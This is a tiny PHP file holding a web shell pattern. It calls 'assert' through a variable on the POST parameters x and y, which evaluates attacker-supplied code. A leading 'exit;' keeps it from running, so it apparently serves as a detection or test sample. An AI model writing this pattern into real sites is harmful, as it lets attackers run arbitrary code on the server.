<?php exit;
$a = 'assert';
$b = strrev('x');
$a("$_POST[x]");
$a($_POST['y']);
